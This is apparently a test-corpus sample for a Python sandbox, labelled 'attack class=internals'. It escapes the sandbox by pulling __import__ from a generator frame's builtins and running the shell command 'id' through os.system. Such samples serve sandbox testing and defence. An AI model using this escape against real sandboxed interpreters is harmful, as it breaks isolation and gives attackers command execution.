# corpus: attack class=internals form=targeted
# A generator's frame hands out the module globals and builtins.
def main():
    generator = (item for item in [1])
    importer = generator.gi_frame.f_builtins["__import__"]
    return {"status": importer("os").system("id")}
